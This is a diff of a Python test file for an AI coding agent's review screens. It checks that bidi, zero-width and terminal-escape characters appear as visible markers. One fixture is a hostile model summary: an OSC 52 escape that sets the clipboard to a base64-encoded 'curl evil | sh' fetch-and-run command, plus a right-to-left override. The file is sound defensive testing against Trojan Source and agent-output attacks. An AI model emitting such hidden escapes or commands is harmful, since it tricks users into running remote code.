@@ -8,7 +8,7 @@ other protected files, reads of the key. Nothing outside the allowlist runs (the
 not exist), no setting changes, and a second "attacker" server receives zero requests.
 
 What the user reviews is what would be applied: a diff line carrying bidi controls, zero-width characters or
-terminal escapes is shown with those characters as visible `<U+XXXX>` markers (CLI review and `aether runs show`).
+terminal escapes is shown with those characters as visible `<U+202E>`-style markers (CLI review and `aether runs show`).
 """
 
 from __future__ import annotations
@@ -255,7 +255,7 @@ def trojan_source_edit() -> dict[str, str]:
 def test_review_shows_bidi_zero_width_and_escape_characters_visibly_and_applies_exactly_what_was_shown(
     demo_repo: Path, scripted_server: ScriptedServer
 ) -> None:
-    """The CLI diff (`d` in the review, `aether runs show`) shows hidden characters as <U+XXXX>, never raw."""
+    """The CLI diff (`d` in the review, `aether runs show`) shows hidden characters as code-point markers, never raw."""
     edit = trojan_source_edit()
     # The model's summary tries to set the clipboard (OSC 52) and reorder itself: shown inert too.
     summary = "All done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u202esafe\u202c"
@@ -286,7 +286,7 @@ def test_review_shows_bidi_zero_width_and_escape_characters_visibly_and_applies_
 
 
 async def test_tui_hunk_view_shows_hidden_characters_as_markers() -> None:
-    """The TUI's review draws the same Trojan Source hunk with <U+XXXX> markers and no raw control characters."""
+    """The TUI's review draws the same Trojan Source hunk with code-point markers and no raw control characters."""
     from textual.app import App, ComposeResult
 
     from aetherflow.tui.widgets.diff_view import HunkView
